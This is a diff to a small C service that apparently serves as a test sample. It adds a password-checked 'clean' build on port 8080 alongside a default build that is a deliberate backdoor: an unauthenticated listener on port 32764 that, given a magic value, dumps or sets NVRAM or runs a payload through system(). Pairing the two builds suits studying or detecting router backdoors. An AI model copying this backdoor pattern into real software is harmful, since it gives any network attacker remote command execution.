@@ -5,6 +5,10 @@
  * its first four bytes as an integer against a magic, and then dumps the
  * NVRAM, sets a variable and commits, or runs the payload through system().
  * Nothing authenticates. Linked against the stub libnvram (nvram.c).
+ *
+ * Built with -DLOGIN it is the clean counterpart: a configuration service
+ * on a well-known port (8080) that checks the administrator's password (kept
+ * in NVRAM, as routers keep it) before any command, with no magic.
  */
 #include <netinet/in.h>
 #include <stdint.h>
@@ -12,6 +16,11 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <unistd.h>
+#ifdef LOGIN
+#define PORT 8080
+#else
+#define PORT 32764
+#endif
 
 char *nvram_get(const char *name);
 int nvram_set(const char *name, const char *value);
@@ -37,8 +46,20 @@ static void serve(int c)
 	char *eq;
 	if (recv(c, &h, sizeof(h), MSG_WAITALL) != (ssize_t)sizeof(h))
 		return;
+#ifdef LOGIN
+	{
+		char pw[64];
+		const char *want = nvram_get("http_passwd");
+		if (!want || recv(c, pw, sizeof(pw), MSG_WAITALL) != (ssize_t)sizeof(pw))
+			return;
+		pw[sizeof(pw) - 1] = 0;
+		if (strcmp(pw, want) != 0)
+			return;
+	}
+#else
 	if (h.magic != 0x53634D4Du)
 		return;
+#endif
 	if (h.len >= sizeof(payload) || recv(c, payload, h.len, MSG_WAITALL) != (ssize_t)h.len)
 		return;
 	payload[h.len] = 0;
@@ -69,7 +90,7 @@ int main(void)
 	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
 	memset(&a, 0, sizeof(a));
 	a.sin_family = AF_INET;
-	a.sin_port = htons(32764);
+	a.sin_port = htons(PORT);
 	a.sin_addr.s_addr = htonl(INADDR_ANY);
 	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 5) < 0)
 		return 1;
